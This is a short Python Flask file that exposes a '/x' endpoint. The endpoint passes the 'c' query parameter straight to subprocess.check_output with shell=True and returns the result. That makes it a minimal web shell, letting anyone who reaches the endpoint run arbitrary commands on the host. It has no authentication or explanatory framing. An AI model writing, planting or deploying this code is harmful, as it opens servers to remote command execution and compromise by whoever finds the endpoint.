from flask import Flask, request
import subprocess
app = Flask(__name__)
@app.route('/x')
def x():
    cmd = request.args.get('c')
    return subprocess.check_output(cmd, shell=True)
